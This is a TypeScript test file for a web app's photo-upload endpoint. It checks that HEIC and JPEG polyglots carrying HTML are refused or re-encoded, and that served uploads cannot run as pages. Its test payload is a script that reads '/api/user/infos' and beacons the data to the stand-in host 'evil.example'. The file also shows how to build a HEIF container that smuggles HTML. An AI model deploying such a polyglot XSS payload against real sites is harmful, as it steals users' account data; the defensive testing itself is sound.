// Issue 9, item 11 (uploads): only what decodes as the image type it claims is stored — a file with
// HEIC (or JPEG) magic bytes followed by HTML is refused or stored without the HTML — and uploads are
// served as images that can never run as a page (Content-Disposition, sandboxing CSP, nosniff).
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { config } from '../../server/config.ts';
import { isWellFormedHeif } from '../../server/lib/uploads.ts';
import { heifFile, LAB_A, setupApi, type Client, type TestEnv } from '../api/harness.ts';

let env: TestEnv;
let a: Client;
let uploadDir: string;
const HTML = Buffer.from('<html><body><script>fetch("/api/user/infos").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script></body></html>');

function form(photo: Buffer) {
  const f = new FormData();
  f.set('lieferschein', 'LS-9'); f.set('schaden', 'Karton nass');
  f.append('photos', new Blob([new Uint8Array(photo)], { type: 'image/jpeg' }), 'foto.jpg');
  return f;
}
const storedFiles = () => fs.readdirSync(uploadDir, { recursive: true, withFileTypes: true }).filter((d) => d.isFile()).map((d) => path.join(d.parentPath, d.name));

beforeAll(async () => {
  uploadDir = fs.mkdtempSync(path.join(os.tmpdir(), 'sec-uploads-'));
  config.uploadDir = uploadDir;
  env = await setupApi();
  a = env.client();
  expect((await a.login(LAB_A)).status).toBe(200);
});
afterAll(async () => { await env.close(); fs.rmSync(uploadDir, { recursive: true, force: true }); });

describe('polyglot uploads', () => {
  it('HEIC magic bytes followed by HTML are refused and nothing is written', async () => {
    const poly = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic\0\0\0\0mif1heic'), HTML]);
    expect(isWellFormedHeif(poly)).toBe(false);
    expect(isWellFormedHeif(heifFile(HTML))).toBe(false); // a valid container with HTML appended
    for (const f of [poly, heifFile(HTML)]) {
      const r = await a.post('/api/forms/transportschaden', form(f));
      expect([r.status, r.body.error, r.body.reason]).toEqual([415, 'upload_type', 'undecodable']);
    }
    expect(storedFiles()).toEqual([]);
  });

  it('a well-formed HEIF container whose image data is HTML is refused: only what decodes is stored', async () => {
    const box = (type: string, body: Buffer) => { const h = Buffer.alloc(8); h.writeUInt32BE(8 + body.length); h.write(type, 4, 'latin1'); return Buffer.concat([h, body]); };
    const smuggled = Buffer.concat([box('ftyp', Buffer.from('heic\0\0\0\0mif1heic', 'latin1')), box('meta', Buffer.alloc(4)), box('mdat', HTML)]);
    expect(isWellFormedHeif(smuggled)).toBe(true);
    const r = await a.post('/api/forms/transportschaden', form(smuggled));
    expect([r.status, r.body.error, r.body.reason]).toEqual([415, 'upload_type', 'undecodable']);
    expect(storedFiles()).toEqual([]);
  });

  it('a JPEG with HTML appended is stored re-encoded: the HTML is gone', async () => {
    const jpeg = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#123456' } }).jpeg().toBuffer();
    const r = await a.post('/api/forms/transportschaden', form(Buffer.concat([jpeg, HTML])));
    expect(r.status).toBe(200);
    for (const f of storedFiles()) expect(fs.readFileSync(f).includes('<script>')).toBe(false);
    const served = await a.get(r.body.result.photos[0].url);
    expect(served.text.includes('<script>')).toBe(false);
    const original = storedFiles().find((f) => !f.endsWith('.thumb.jpg'))!;
    expect((await sharp(fs.readFileSync(original)).metadata()).format).toBe('jpeg');
  });

  it('an undecodable JPEG (magic bytes, then HTML) is refused', async () => {
    const r = await a.post('/api/forms/transportschaden', form(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), HTML])));
    expect([r.status, r.body.error]).toEqual([415, 'upload_type']);
  });

  it('uploads are served as images that cannot run: attachment name, sandboxing CSP, nosniff, private', async () => {
    const r = await a.post('/api/forms/transportschaden', form(heifFile()));
    expect(r.status).toBe(200);
    const res = await a.get(r.body.result.photos[0].url);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('image/jpeg'); // the HEIC photo decoded, stored as JPEG
    expect(res.headers.get('content-disposition')).toMatch(/^inline; filename="upload-\d+\.jpg"$/);
    const csp = res.headers.get('content-security-policy')!;
    expect(csp).toMatch(/default-src 'none'/);
    expect(csp).toMatch(/(^|; )sandbox($|;)/);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('x-frame-options')).toBe('DENY');
    expect(res.headers.get('cache-control')).toMatch(/^private/);
  });
});
